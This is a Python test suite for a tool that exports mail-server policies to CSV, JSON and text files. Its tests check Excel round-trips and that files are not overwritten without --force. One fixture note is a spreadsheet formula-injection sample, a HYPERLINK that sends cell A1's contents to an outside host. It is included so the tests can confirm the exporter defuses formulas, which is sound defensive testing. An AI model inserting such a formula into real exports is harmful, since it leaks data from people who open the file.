"""Writing policies: what goes out comes back, through a spreadsheet too, and nothing is overwritten by mistake."""

import csv
import io
import os
import re
import stat
import threading
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest

from policy_store.exchange.sources import proposals
from policy_store.exchange.targets import TargetError, target_of, whole, write_policies
from policy_store.policy import Policy
from policy_store.tables.row import Row

_NOTES = (
    "", "Kunde München", "Кунде", "日本語 😀", '=HYPERLINK("http://x/?"&A1,"click")', "+49 89 1234", "-", "@home",
    "0815", "1-2", "3/4", "1E5", "May 5", "true", "'quoted'", "'=1", "a;b,c\td", 'he said "no"', "two\nlines",
    " spaces ", "007 agents",
)  # fmt: skip


def _row(domain: str, note: str = "") -> Row:
    policy = Policy(mode="enforce", mx=("mx.contoso.com", "*.b.example"), max_age=1209600)
    return Row(domain, policy, note, "", datetime(2026, 11, 24, tzinfo=UTC))


_ROWS = [_row(f"d{number:02}.example", note) for number, note in enumerate(_NOTES)]


def _through_excel(content: bytes, separator: str) -> bytes:
    """What Excel makes of a CSV file that it opens and saves as "CSV UTF-8": it knows UTF-8 by the mark alone, reads
    numbers, dates and truth values as such, and runs what looks like a formula.
    """
    text = content.decode("utf-8-sig") if content.startswith(b"\xef\xbb\xbf") else content.decode("cp1252", "replace")
    saved = io.StringIO(newline="")
    writer = csv.writer(saved, delimiter=separator)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        writer.writerow(map(_shown, row))
    return saved.getvalue().encode("utf-8-sig")


def _shown(cell: str) -> str:
    text = cell.strip()
    if re.match("[=+@-]", text):
        return "#NAME?"
    if text.lower() in ("true", "false"):
        return text.upper()
    if re.fullmatch(r"[0-9]+(?:[-/][0-9]+)+", text) or re.fullmatch(r"[A-Za-z]{3,9} ?[0-9]{1,2}", text):
        return "05. Mai"
    if re.fullmatch(r"[0-9]+", text):
        return str(int(text))
    return "1.00E+05" if re.fullmatch(r"[0-9]+E[0-9]+", text) else cell


class TestRoundTrip:
    @pytest.mark.parametrize("separator", [",", ";", "\t"])
    def test_a_file_that_excel_opened_and_saved_changes_nothing(self, tmp_path: Path, separator: str) -> None:
        path = tmp_path / "all.csv"
        assert write_policies(path, "csv", _ROWS, separator=separator) == len(_ROWS)
        path.write_bytes(_through_excel(path.read_bytes(), separator))
        read = list(proposals(path))
        assert [proposal.problems for proposal in read] == [()] * len(_ROWS)
        assert [(one.domain, one.mode, one.mx, one.max_age, one.note or "") for one in read] == [
            (row.domain, row.policy.mode, row.policy.mx, row.policy.max_age, row.note) for row in _ROWS
        ]

    def test_a_csv_file_begins_with_a_mark(self, tmp_path: Path) -> None:
        write_policies(tmp_path / "all.csv", "csv", _ROWS)
        assert (tmp_path / "all.csv").read_bytes().startswith(b"\xef\xbb\xbfdomain,")

    def test_no_cell_is_a_formula(self, tmp_path: Path) -> None:
        write_policies(tmp_path / "all.csv", "csv", _ROWS)
        with (tmp_path / "all.csv").open(encoding="utf-8-sig", newline="") as file:
            assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(("=", "+", "-", "@"))]

    def test_json_has_neither_mark_nor_apostrophe(self, tmp_path: Path) -> None:
        write_policies(tmp_path / "all.json", "json", [_row("a.example", "=1")])
        assert (tmp_path / "all.json").read_bytes().startswith(b"[\n{")
        [read] = proposals(tmp_path / "all.json")
        assert read.note == "=1"

    def test_texts_are_served_bytes(self, tmp_path: Path) -> None:
        write_policies(tmp_path / "texts", "texts", _ROWS)
        assert (tmp_path / "texts" / "d00.example.txt").read_bytes() == _ROWS[0].policy.text.encode()


class TestNothingIsOverwritten:
    def test_a_file_is_overwritten_by_force_only(self, tmp_path: Path) -> None:
        path = tmp_path / "all.csv"
        path.write_text("precious")
        with pytest.raises(TargetError, match="--force"):
            write_policies(path, "csv", _ROWS)
        assert path.read_text() == "precious"
        write_policies(path, "csv", _ROWS, force=True)
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    def test_a_file_that_somebody_writes_meanwhile_is_kept(self, tmp_path: Path) -> None:
        path = tmp_path / "all.csv"

        def rows() -> Iterator[Row]:
            yield _ROWS[0]
            path.write_text("precious")

        with pytest.raises(TargetError, match="--force"):
            write_policies(path, "csv", rows())
        assert path.read_text() == "precious"
        assert _names(tmp_path) == ["all.csv"]

    def test_a_file_appears_only_when_it_is_whole(self, tmp_path: Path) -> None:
        def rows() -> Iterator[Row]:
            yield _ROWS[0]
            raise KeyboardInterrupt

        with pytest.raises(KeyboardInterrupt):
            write_policies(tmp_path / "all.csv", "csv", rows())
        assert _names(tmp_path) == []

    def test_others_may_read_the_file_as_any_other(self, tmp_path: Path) -> None:
        write_policies(tmp_path / "all.csv", "csv", _ROWS)
        (tmp_path / "other").touch()
        assert (tmp_path / "all.csv").stat().st_mode == (tmp_path / "other").stat().st_mode

    def test_what_a_link_leads_to_is_written_and_the_link_stays(self, tmp_path: Path) -> None:
        (tmp_path / "real.csv").touch()
        (tmp_path / "all.csv").symlink_to("real.csv")
        write_policies(tmp_path / "all.csv", "csv", _ROWS, force=True)
        assert (tmp_path / "all.csv").is_symlink()
        assert (tmp_path / "real.csv").stat().st_size

    def test_a_pipe_is_written_to_and_not_replaced(self, tmp_path: Path) -> None:
        pipe = tmp_path / "all.csv"
        os.mkfifo(pipe)
        read: list[bytes] = []
        reader = threading.Thread(target=lambda: read.append(pipe.read_bytes()))
        reader.start()
        write_policies(pipe, "csv", _ROWS)
        reader.join(timeout=30)
        assert read[0].startswith(b"\xef\xbb\xbfdomain,")
        assert stat.S_ISFIFO(pipe.stat().st_mode)

    def test_a_device_is_written_to_and_not_replaced(self) -> None:
        with pytest.raises(TargetError, match="cannot be written: No space left on device"):
            write_policies(Path("/dev/full"), "csv", _ROWS)
        assert stat.S_ISCHR(Path("/dev/full").stat().st_mode)

    def test_a_folder_that_is_not_there_is_named(self, tmp_path: Path) -> None:
        with pytest.raises(TargetError, match="cannot be written: No such file"):
            write_policies(tmp_path / "nowhere" / "all.csv", "csv", _ROWS)

    def test_a_folder_that_holds_something_is_left_alone(self, tmp_path: Path) -> None:
        (tmp_path / "x").touch()
        with pytest.raises(TargetError, match="not empty"):
            write_policies(tmp_path, "texts", _ROWS)

    def test_standard_output_is_utf_8_and_stays_open(self, capfd: pytest.CaptureFixture[str]) -> None:
        with whole(Path("-"), mark=True) as file:
            file.write("München\r\n")
        print("after")
        assert capfd.readouterr().out.splitlines() == ["München", "after"]


@pytest.mark.parametrize(
    ("name", "to", "kind"),
    [
        ("a.csv", None, "csv"),
        ("a.JSON", None, "json"),
        ("a", None, "texts"),
        ("a.txt", "json", "json"),
        ("-", "csv", "csv"),
    ],
)
def test_the_name_says_what_to_write_unless_it_is_said(name: str, to: str | None, kind: str) -> None:
    assert target_of(Path(name), to) == kind  # type: ignore[arg-type]


@pytest.mark.parametrize(("name", "to"), [("a.xlsx", None), ("-", None), ("-", "texts")])
def test_a_name_that_does_not_say_it_is_refused(name: str, to: str | None) -> None:
    with pytest.raises(TargetError):
        target_of(Path(name), to)  # type: ignore[arg-type]


def _names(folder: Path) -> Sequence[str]:
    return sorted(path.name for path in folder.iterdir())
